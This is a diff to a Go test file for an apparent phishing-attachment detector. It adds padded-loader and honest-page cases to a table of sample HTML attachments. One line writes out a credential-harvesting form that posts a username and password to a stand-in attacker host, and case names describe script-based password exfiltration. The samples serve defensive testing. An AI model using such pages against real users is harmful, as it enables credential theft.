@@ -52,7 +52,7 @@ const (
 func htmlPhishCases() map[string][]sample {
 	written := `<form action="https://collect.attacker.example/owa"><input name=u><input type=password name=p></form>`
 	b64 := base64.StdEncoding.EncodeToString([]byte(written))
-	return map[string][]sample{
+	cases := map[string][]sample{
 		"html-credential-form": {
 			// 1. no form: the password leaves by script
 			{"fetch, no form", pageAttach("Fax_Document.html", loginInputs+fetchSend), "2"},
@@ -166,6 +166,15 @@ start();</script>`), "2"},
 			{"fetch of a library host only", pageAttach("a.html", `<div id=t></div><script>fetch("https://cdn.jsdelivr.net/npm/some-data@1/data.json").then(r => r.text()).then(t => { document.getElementById("t").innerHTML = t })</script>`), ""},
 		},
 	}
+	// loaders padded with text the reader does not see, and honest pages
+	// hiding a little (htmlvisible_test.go, held to Chromium)
+	for _, c := range paddingTricks() {
+		cases["html-redirect-attachment"] = append(cases["html-redirect-attachment"], sample{"padding: " + c.name, pageAttach("Document.html", c.page), "2"})
+	}
+	for _, c := range honestTwins() {
+		cases["html-redirect-attachment"] = append(cases["html-redirect-attachment"], sample{"saved page: " + c.name, pageAttach("page.html", c.page), ""})
+	}
+	return cases
 }
 
 func TestRefreshTarget(t *testing.T) {
